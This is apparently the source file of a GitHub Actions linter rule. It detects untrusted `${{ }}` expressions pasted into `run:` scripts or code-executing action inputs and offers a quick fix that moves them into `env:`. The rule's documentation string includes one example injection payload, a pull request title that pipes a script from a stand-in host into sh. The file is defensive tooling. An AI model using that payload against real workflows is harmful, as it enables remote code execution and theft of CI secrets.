import { RUNNER_ENV, normalizeContextPath } from '../knowledge/contexts';
import { codeSinkFor, type SinkLanguage } from '../knowledge/code-sinks';
import { parseShell } from '../knowledge/shell';
import { assessSite, scopeOf, singleContext, type LeafVerdict, type Scope, type Verdict } from '../knowledge/taint';
import type { ExpressionSite, ParsedFile } from '../parse/document';
import { parseUses } from '../parse/uses';
import { stepKeysStart, type JobView, type StepView } from '../parse/views';
import { isAlias, type Node } from 'yaml';
import { editsKeepYamlValid } from '../fixes/verify';
import { asMap, scalarText, type Entry } from '../parse/yaml-nodes';
import type { Rule } from './types';
import type { FindingReport, Fix, OffsetEdit, RelatedSpan } from '../findings';
import { AttachedCache, attachmentsOf } from '../parse/attached-cache';
import type { Span } from '../parse/text';
import { viewValue, type WorkspaceView } from '../views';
import { callerInputVerdict } from './support/caller-inputs';
import { describeCaller, resolveLocalUses, workspacePath } from './support/callers';

interface Sink {
  kind: 'run' | 'input';
  /** Null for a `run:` script until a fix asks: its shell is then read from the step, job and workflow defaults. */
  language: SinkLanguage | 'bash' | 'cmd' | null;
  /** How a person names the sink: "this `run:` script", "`script` of actions/github-script". */
  label: string;
  entry: Entry;
}

function stepShell(scope: Scope, step: StepView): string {
  const own =
    step.shell?.value ??
    scope.job?.child('defaults').child('run').string('shell')?.value ??
    scope.file.workflow?.child('defaults').child('run').string('shell')?.value;
  if (own) return own.trim().split(/\s+/)[0].toLowerCase();
  const runsOn = scalarText(scope.job?.runsOn?.value ?? null) ?? '';
  return /windows/i.test(runsOn) ? 'pwsh' : 'bash';
}

function runLanguage(scope: Scope, step: StepView): SinkLanguage | 'bash' | 'cmd' {
  const shell = stepShell(scope, step);
  return shell === 'pwsh' || shell === 'powershell' ? 'pwsh' : shell === 'cmd' ? 'cmd' : shell === 'python' ? 'python' : 'bash';
}

/** The code sink an expression site sits in, or null. */
function sinkOf(site: ExpressionSite, scope: Scope, base: number): Sink | null {
  const step = scope.step;
  if (!step) return null;
  const path = site.path;
  if (path.length === base + 1 && path[base] === 'run') {
    const entry = step.run;
    if (!entry) return null;
    return { kind: 'run', language: null, label: 'this `run:` script', entry };
  }
  if (path.length === base + 2 && path[base] === 'with' && typeof path[base + 1] === 'string') {
    const uses = scalarText(step.uses?.value ?? null);
    if (!uses) return null;
    const reference = parseUses(uses);
    const input = String(path[base + 1]);
    const entry = step.with.get(input);
    if (!entry) return null;
    if (reference.kind === 'docker')
      return ['entrypoint', 'args'].includes(input.toLowerCase())
        ? { kind: 'input', language: 'other', label: `\`${input}\` of a container step`, entry }
        : null;
    if (reference.kind !== 'remote') return null;
    const sink = codeSinkFor(reference.owner, reference.repo, reference.subpath);
    if (!sink || !sink.inputs.includes(input.toLowerCase())) return null;
    return { kind: 'input', language: sink.language, label: `\`${input}\` of ${reference.repository}, which runs it as code`, entry };
  }
  return null;
}

export const templateInjection: Rule = {
  id: 'template-injection',
  title: 'Untrusted text expanded into code',
  kinds: ['workflow', 'action'],
  severity: 'high',
  confidence: 'high',
  persona: 'regular',
  online: false,
  reads: ['workspace'],
  docs: {
    summary:
      'A `${{ }}` expression whose value someone else chooses is pasted into a `run:` script or into an input that an action runs as code, before the shell or interpreter reads it.',
    why: 'Expressions are substituted into the script text before it runs, so a pull request title such as `"; curl evil.sh | sh; #` becomes a command. Ultralytics (2024) put `github.head_ref` into a composite action\'s `run:` under `pull_request_target`; Grafana (2025) put a branch name into `actions/github-script`; Nx (2025) put a pull request title into a bash heredoc and lost its npm token; elementary-data (2026) expanded an `issue_comment` body.',
    fix: 'Pass the value through an environment variable: add `NAME: ${{ <expression> }}` to the step\'s `env:` and use `"$NAME"` (bash), `$env:NAME` (PowerShell), `%NAME%` (cmd) or `process.env.NAME` (github-script). The quick fix does this for single-context expressions.',
  },
  check({ file, report, workspace }) {
    const space = viewValue(workspace);
    for (const { site, scope, sink, leaves } of sinkLeaves(file)) {
      const single = singleContext(site);
      for (const leaf of leaves) {
        let { verdict } = leaf;
        let related: RelatedSpan[] | undefined;
        // An input of a local action or reusable workflow is as dangerous as what its callers pass.
        const fromCallers = space ? inputFromCallers(space, file, leaf.path) : null;
        if (fromCallers) ({ verdict, related } = fromCallers);
        const step = scope.step;
        const canMove = single !== null && leaves.length === 1 && step !== null && step !== undefined;
        // The fix verifies itself by re-parsing the edited step: computed only when someone asks for it.
        const fixes = () => {
          const fix = canMove
            ? moveToEnv(
                file,
                site,
                sink,
                sink.language ?? runLanguage(scope, step),
                step,
                normalizeContextPath(single.path) === normalizeContextPath(leaf.path) ? single.path : null,
              )
            : null;
          return fix ? [fix] : [];
        };
        report({
          span: { start: leaf.start, end: leaf.end },
          message: `\`${leaf.path}\` is expanded into ${sink.label}: ${verdict.reason}. Pass it through \`env:\` instead`,
          severity: verdict.severity,
          confidence: verdict.confidence,
          persona: verdict.persona,
          ...(related ? { related } : {}),
          fixes,
        });
      }
    }
    reportAliasedSinks(file, report);
    if (space) reportCallsPassingUntrustedText(file, space, report);
  },
};

/**
 * A sink whose value is an alias (`run: *script`) runs the text of the anchor, wherever that is defined
 * (`env: { S: &script "echo ${{ … }}" }`). The expressions of an anchor outside every sink were skipped
 * above: they are reported here, at the anchor's expression, judged in the scope of the step that runs them.
 * (An anchor defined inside a sink is reported there already.)
 */
function reportAliasedSinks(file: ParsedFile, report: Parameters<Rule['check']>[0]['report']): void {
  const steps: { step: StepView; job: JobView | null }[] = [];
  if (file.workflow) for (const job of file.workflow.jobs) for (const step of job.steps) steps.push({ step, job });
  if (file.action) for (const step of file.action.steps) steps.push({ step, job: null });
  let sites: Map<unknown, ExpressionSite[]> | null = null;
  const kind = file.workflow ? 'workflow' : 'action';
  for (const { step, job } of steps) {
    const candidates: { entry: Entry; label: string }[] = [];
    if (step.run) candidates.push({ entry: step.run, label: 'this `run:` script' });
    else if (step.with.entries.some((entry) => isAlias(entry.pair.value))) {
      const reference = parseUses(scalarText(step.uses?.value ?? null) ?? '');
      const sink = reference.kind === 'remote' ? codeSinkFor(reference.owner, reference.repo, reference.subpath) : undefined;
      if (sink && reference.kind === 'remote')
        for (const entry of step.with.entries)
          if (sink.inputs.includes(entry.key.toLowerCase()))
            candidates.push({ entry, label: `\`${entry.key}\` of ${reference.repository}, which runs it as code` });
    }
    for (const { entry, label } of candidates) {
      const alias = entry.pair.value;
      if (!isAlias(alias) || !entry.value || !alias.range) continue;
      if (!sites) {
        sites = new Map();
        for (const site of file.expressions) {
          const list = sites.get(site.scalar);
          if (list) list.push(site);
          else sites.set(site.scalar, [site]);
        }
      }
      const anchored = sites.get(entry.value);
      if (!anchored) continue;
      const aliasSpan = { start: alias.range[0], end: alias.range[1] };
      const aliasText = file.text.slice(aliasSpan.start, aliasSpan.end);
      const scope: Scope = { ...scopeOf(file, []), job, step };
      for (const site of anchored) {
        if (!site.occurrence.terminated || !site.occurrence.parsed.ast) continue;
        // Defined inside a sink: reported where it stands.
        const base = stepKeysStart(site.path, kind);
        if (base !== -1 && sinkOf(site, scopeOf(file, site.path), base)) continue;
        for (const leaf of assessSite(site, scope)) {
          const { verdict } = leaf;
          report({
            span: { start: leaf.start, end: leaf.end },
            message: `\`${leaf.path}\` is expanded into ${label} through the alias \`${aliasText}\` (line ${file.lines.lineAt(aliasSpan.start) + 1}): ${verdict.reason}. Pass it through the running step's \`env:\` instead`,
            severity: verdict.severity,
            confidence: verdict.confidence,
            persona: verdict.persona,
            related: [{ span: aliasSpan, message: 'runs this text' }],
          });
        }
      }
    }
  }
}

interface SinkLeaves {
  site: ExpressionSite;
  scope: Scope;
  sink: Sink;
  leaves: LeafVerdict[];
}

/** Every expression of the file in a code sink, with the values that reach it. */
function* sinkLeaves(file: ParsedFile): Generator<SinkLeaves> {
  const kind = file.workflow ? 'workflow' : 'action';
  for (const site of file.expressions) {
    if (!site.occurrence.terminated || !site.occurrence.parsed.ast) continue;
    // Only a step's `run:` or one of its `with:` inputs can be a sink (see sinkOf): the rest is skipped
    // before its scope is looked up.
    const path = site.path;
    const base = stepKeysStart(path, kind);
    if (base === -1 || (!(path.length === base + 1 && path[base] === 'run') && !(path.length === base + 2 && path[base] === 'with')))
      continue;
    const scope = scopeOf(file, path);
    const sink = sinkOf(site, scope, base);
    if (!sink) continue;
    const leaves = assessSite(site, scope);
    if (leaves.length > 0) yield { site, scope, sink, leaves };
  }
}

// ---------------------------------------------------------------------------------------------------
// Across files: inputs of local actions and reusable workflows, judged by what their callers pass.

/** The input a context path reads (`inputs.tag` → `tag`), or null. */
function inputName(path: string): string | null {
  const normalized = normalizeContextPath(path);
  if (!normalized.startsWith('inputs.')) return null;
  const name = normalized.slice('inputs.'.length);
  return name === '' || name === '*' || name.includes('.') ? null : name;
}

/**
 * Whether the callers seen in the workspace are all the callers that count: an action under `.github/`
 * (where a repository keeps the actions only its own workflows use), or a reusable workflow. An action
 * elsewhere (the repository root, a subfolder) may be published: its callers are everyone.
 */
function callersAreKnown(space: WorkspaceView, file: ParsedFile): boolean {
  if (file.workflow) return true;
  const path = workspacePath(space, file);
  return path !== null && path.startsWith('.github/');
}

/** The verdict on `inputs.<name>` from the callers of the file, or null to keep the file-local one. */
function inputFromCallers(space: WorkspaceView, file: ParsedFile, path: string): { verdict: Verdict; related?: RelatedSpan[] } | null {
  const name = inputName(path);
  if (name === null) return null;
  const workflow = file.workflow;
  if (workflow) {
    if (!workflow.hasTrigger('workflow_call')) return null;
    // Also typed in by whoever dispatches it: the file-local verdict stays.
    if (
      workflow
        .trigger('workflow_dispatch')
        ?.config?.child('inputs')
        .entries.some((entry) => entry.key.toLowerCase() === name)
    )
      return null;
  } else if (!file.action) return null;
  const found = callerInputVerdict(space, file, name);
  if (!found) return null;
  const { verdict, caller, span, passed } = found;
  if (verdict && caller && span && passed) {
    return {
      verdict: {
        ...verdict,
        reason: `input \`${name}\`, which ${describeCaller(caller)} fills with \`${passed}\` (there: ${verdict.reason})`,
      },
      related: [{ span, message: `\`${passed}\` passed as input \`${name}\` here`, file: caller.file }],
    };
  }
  if (!callersAreKnown(space, file)) return null;
  const count = found.callers;
  return {
    verdict: {
      severity: 'low',
      confidence: 'medium',
      persona: 'pedantic',
      capability: 'writer',
      reason: `input \`${name}\`, which ${count === 1 ? 'the only caller' : `each of the ${count} callers`} in this repository fills with a literal or a value only maintainers choose (a caller outside the repository is not seen)`,
    },
  };
}

/** The code sinks of a file that expand an input, by input name (lower case). */
function inputSinks(file: ParsedFile): Map<string, { span: Span; label: string }[]> {
  let sinks = INPUT_SINKS.get(file);
  if (sinks) return sinks;
  sinks = new Map();
  for (const { sink, leaves } of sinkLeaves(file)) {
    for (const leaf of leaves) {
      const name = inputName(leaf.path);
      if (name === null) continue;
      const list = sinks.get(name) ?? [];
      if (list.length === 0) sinks.set(name, list);
      list.push({ span: { start: leaf.start, end: leaf.end }, label: sink.label });
    }
  }
  INPUT_SINKS.set(file, sinks);
  return sinks;
}
const INPUT_SINKS = new AttachedCache<ParsedFile, Map<string, { span: Span; label: string }[]>>('input-sinks', attachmentsOf);

/**
 * On a caller's `uses:` line: a `with:` value someone else chooses, given to a local action or reusable
 * workflow of the workspace that expands that input into code.
 */
function reportCallsPassingUntrustedText(file: ParsedFile, space: WorkspaceView, report: (finding: FindingReport) => void): void {
  for (const site of file.uses) {
    if (site.reference.kind !== 'local' && site.reference.kind !== 'self') continue;
    const target = resolveLocalUses(space, site.value, file);
    if (!target || target.file === file) continue;
    const sinks = inputSinks(target.file);
    if (sinks.size === 0) continue;
    const withMap = site.step ? site.step.with : site.job?.with;
    if (!withMap) continue;
    for (const entry of withMap.entries) {
      const targets = sinks.get(entry.key.toLowerCase());
      if (!targets) continue;
      let best: LeafVerdict | null = null;
      for (const expression of file.expressions) {
        const occurrence = expression.occurrence;
        if (occurrence.start < entry.valueSpan.start || occurrence.end > entry.valueSpan.end) continue;
        for (const leaf of assessSite(expression, scopeOf(file, expression.path))) {
          // A value passed on from this file's own inputs is judged in the file that expands it (with this file's callers).
          if (inputName(leaf.path) !== null) continue;
          if (leaf.verdict.capability !== 'arbitrary' || leaf.verdict.severity !== 'high') continue;
          if (!best) best = leaf;
        }
      }
      if (!best) continue;
      const sink = targets[0];
      report({
        span: site.entry.valueSpan,
        message: `\`${best.path}\` is passed as input \`${entry.key}\` to \`${target.path}\`, which expands it into ${sink.label}: ${best.verdict.reason}. Pass it through \`env:\` in the called file instead`,
        severity: best.verdict.severity,
        confidence: best.verdict.confidence,
        persona: best.verdict.persona,
        related: [
          { span: { start: best.start, end: best.end }, message: `\`${best.path}\` passed here` },
          { span: sink.span, message: `\`inputs.${entry.key}\` expanded here`, file: target.file },
        ],
      });
    }
  }
}

// ---------------------------------------------------------------------------------------------------
// Quick fix: move the expression into the step's `env:`.

/** `github.event.pull_request.title` → `PULL_REQUEST_TITLE`; `inputs.tag` → `INPUTS_TAG`. */
export function envNameFor(path: string): string {
  const trimmed = path.replace(/^github\.event\./i, '').replace(/^github\./i, '');
  const name = trimmed
    .replace(/\*/g, 'ALL')
    .replace(/[^A-Za-z0-9]+/g, '_')
    .replace(/^_+|_+$/g, '')
    .toUpperCase();
  return /^[A-Z_]/.test(name) ? name : `V_${name}`;
}

/** Quote state at `offset` of a line: scanning the line from its start (heredoc-agnostic, as the fix is unsafe anyway). */
function quoteState(line: string): 'none' | 'single' | 'double' | 'backtick' {
  let state: 'none' | 'single' | 'double' | 'backtick' = 'none';
  for (let i = 0; i < line.length; i++) {
    const c = line[i];
    if (c === '\\' && state !== 'single') {
      i++;
      continue;
    }
    if (state === 'none') {
      if (c === "'") state = 'single';
      else if (c === '"') state = 'double';
      else if (c === '`') state = 'backtick';
    } else if ((state === 'single' && c === "'") || (state === 'double' && c === '"') || (state === 'backtick' && c === '`')) {
      state = 'none';
    }
  }
  return state;
}

function moveToEnv(
  file: ParsedFile,
  site: ExpressionSite,
  sink: Sink,
  language: SinkLanguage | 'bash' | 'cmd',
  step: StepView,
  path: string | null,
): Fix | null {
  if (!path) return null;
  const text = file.text;
  const occurrence = site.occurrence;
  const scalarType = site.scalar.type;
  if (scalarType !== 'BLOCK_LITERAL' && scalarType !== 'PLAIN' && scalarType !== 'QUOTE_SINGLE') return null;
  if (asMap(step.node as never)?.flow) return null;
  // A plain scalar inside a flow map (`with: { script: … }`) may not hold `{`, `}` or `,`: leave it alone.
  if (sink.kind === 'input' && scalarType === 'PLAIN' && asMap(step.get('with')?.value)?.flow) return null;
  const scalarRange = site.scalar.range;
  if (!scalarRange) return null;
  const expressionText = envValueExpression(text.slice(occurrence.start, occurrence.end));
  if (!expressionText) return null;
  const key = normalizeContextPath(path);
  const runnerVar = RUNNER_ENV[key] ?? null;
  const name = runnerVar ?? uniqueName(step, envNameFor(path), expressionText);
  if (!name) return null;
  const lineStart = file.lines.lineStarts[file.lines.lineAt(occurrence.start)];
  const scalarStart = scalarRange[0] + (scalarType === 'QUOTE_SINGLE' ? 1 : 0);
  const before = text.slice(Math.max(lineStart, scalarStart), occurrence.start);
  const state = quoteState(before.replace(/^\s*run:\s*/, ''));
  let replacement: string | null = null;
  let span = { start: occurrence.start, end: occurrence.end };
  switch (language) {
    case 'bash': {
      const script = scalarText(site.scalar as never) ?? '';
      const inQuotedHeredoc = parseShell(script).commands.some((command) =>
        command.heredocs.some((h) => h.quoted && h.body.includes(occurrence.text)),
      );
      if (inQuotedHeredoc) return null;
      const inHeredoc = parseShell(script).commands.some((command) =>
        command.heredocs.some((h) => h.body.includes(`\${{${occurrence.text}}}`)),
      );
      if (scalarType === 'QUOTE_SINGLE' && state !== 'none') return null;
      replacement = inHeredoc || state === 'double' ? `\${${name}}` : state === 'single' ? `'"\${${name}}"'` : `"\${${name}}"`;
      break;
    }
    case 'pwsh':
      if (state === 'single') return null;
      replacement = `$env:${name}`;
      break;
    case 'cmd':
      replacement = `%${name}%`;
      break;
    case 'javascript': {
      const open = text[occurrence.start - 1];
      const close = text[occurrence.end];
      if ((open === "'" || open === '"' || open === '`') && open === close && state !== 'none') {
        replacement = `process.env.${name}`;
        span = { start: occurrence.start - 1, end: occurrence.end + 1 };
      } else if (state === 'backtick') replacement = `\${process.env.${name}}`;
      else if (state === 'single' || state === 'double') {
        const q = state === 'single' ? "'" : '"';
        replacement = `${q} + process.env.${name} + ${q}`;
      } else replacement = `process.env.${name}`;
      break;
    }
    default:
      return null;
  }
  if (scalarType === 'QUOTE_SINGLE' && replacement.includes("'")) return null;
  let edit: OffsetEdit = { span, newText: replacement };
  if (scalarType === 'PLAIN') {
    // The script as a plain scalar would start with a quote or `%` (`run: "${X}" --version` is a quoted
    // scalar followed by junk; `run: "${X}"` alone loses its shell quotes): quote the whole scalar in YAML.
    const [start, end] = scalarRange;
    const rewritten = text.slice(start, span.start) + replacement + text.slice(span.end, end);
    if (!plainScalarReadsAsWritten(rewritten)) edit = { span: { start, end }, newText: `'${rewritten.replace(/'/g, "''")}'` };
  }
  const edits: OffsetEdit[] = [edit];
  if (!runnerVar && !hasEnvEntry(step, name)) {
    const insert = envInsertion(file, step, name, expressionText);
    if (!insert) return null;
    edits.push(insert);
  }
  // The last word: the step, edited, must still parse (never offer a fix that breaks the file).
  const stepRange = (step.node as Node | null)?.range;
  if (!stepRange || !editsKeepYamlValid(text, { start: stepRange[0], end: stepRange[1] }, edits)) return null;
  return {
    title: runnerVar
      ? `Use the runner's \`${runnerVar}\` variable instead of expanding \`${path}\``
      : `Move \`${path}\` into \`env: ${name}\``,
    isPreferred: sink.kind === 'run',
    safety: 'unsafe',
    edits,
  };
}

/**
 * The expression as the `env:` value will hold it: on one line (a `${{ }}` spread over lines of a block
 * script would not be indented enough under the env key), or null when it cannot be.
 */
function envValueExpression(source: string): string | null {
  if (!/[\r\n]/.test(source)) return source;
  if (/['"]/.test(source)) return null;
  return source.replace(/\s+/g, ' ');
}

/** Whether a plain scalar written as `source` (possibly over several lines) parses back to that text. */
function plainScalarReadsAsWritten(source: string): boolean {
  if (/^[-?:,[\]{}#&*!|>'"%@`]/.test(source)) return false;
  return !/:(\s|$)|\s#/.test(source);
}

function hasEnvEntry(step: StepView, name: string): boolean {
  return step.env.entries.some((entry) => entry.key === name);
}

/** The env name to use: reuse an entry with the same value, avoid clashing with one with another value. */
function uniqueName(step: StepView, base: string, expressionText: string): string | null {
  const entries = step.env.entries;
  for (let i = 1; i < 50; i++) {
    const name = i === 1 ? base : `${base}_${i}`;
    const existing = entries.find((entry) => entry.key === name);
    if (!existing) return name;
    if ((scalarText(existing.value) ?? '').trim() === expressionText) return name;
  }
  return null;
}

function envInsertion(file: ParsedFile, step: StepView, name: string, expressionText: string): OffsetEdit | null {
  const lines = file.lines;
  const eol = lines.eol;
  const value =
    expressionText.includes("'") || expressionText.includes('#')
      ? `"${expressionText.replace(/\\/g, '\\\\').replace(/"/g, '\\"')}"`
      : expressionText;
  const lineAfter = (offset: number): number | null => {
    const line = lines.lineAt(Math.max(0, offset - 1));
    return line + 1 < lines.lineCount ? lines.lineStarts[line + 1] : null;
  };
  const envEntry = step.get('env');
  if (envEntry) {
    const map = asMap(envEntry.value);
    if (!map || map.flow || step.env.entries.length === 0) return null;
    // `env: *shared` or `env: &shared`: the new entry would land in a map other steps use too.
    if (isAlias(envEntry.pair.value) || map.anchor) return null;
    const entries = step.env.entries;
    const first = entries[0];
    const last = entries[entries.length - 1];
    const column = first.keySpan.start - lines.lineStarts[lines.lineAt(first.keySpan.start)];
    const at = lineAfter(Math.max(last.valueSpan.end, last.keySpan.end));
    const textLine = `${' '.repeat(column)}${name}: ${value}`;
    if (at === null)
      return {
        span: { start: file.text.length, end: file.text.length },
        newText: `${file.text.endsWith('\n') ? '' : eol}${textLine}${eol}`,
      };
    return { span: { start: at, end: at }, newText: `${textLine}${eol}` };
  }
  const entries = step.entries;
  if (entries.length === 0) return null;
  const first = entries[0];
  const last = entries.reduce((a, b) => (Math.max(b.valueSpan.end, b.keySpan.end) > Math.max(a.valueSpan.end, a.keySpan.end) ? b : a));
  const column = first.keySpan.start - lines.lineStarts[lines.lineAt(first.keySpan.start)];
  const pad = ' '.repeat(column);
  const block = `${pad}env:${eol}${pad}  ${name}: ${value}${eol}`;
  const at = lineAfter(Math.max(last.valueSpan.end, last.keySpan.end));
  if (at === null)
    return { span: { start: file.text.length, end: file.text.length }, newText: `${file.text.endsWith('\n') ? '' : eol}${block}` };
  return { span: { start: at, end: at }, newText: block };
}
